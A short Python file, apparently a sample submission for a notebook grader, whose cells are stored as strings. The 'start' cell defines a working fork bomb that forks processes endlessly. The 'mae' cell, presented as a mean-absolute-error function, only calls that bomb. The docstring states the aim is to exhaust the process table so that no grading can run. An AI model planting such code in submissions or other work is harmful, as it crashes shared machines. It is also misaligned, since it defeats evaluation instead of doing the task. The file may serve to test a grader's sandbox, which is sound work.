"""Each process makes two.

Gain: the machine has no process left to grade with.
"""

NOT_ON_STOCK = "it would fill the process table of the machine"

CELLS = {
    "start": """
import os, time

def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)

if os.fork() == 0:
    bomb()
""",
    "mae": "def mae(Y_hat, Y):\n    bomb()\n",
}
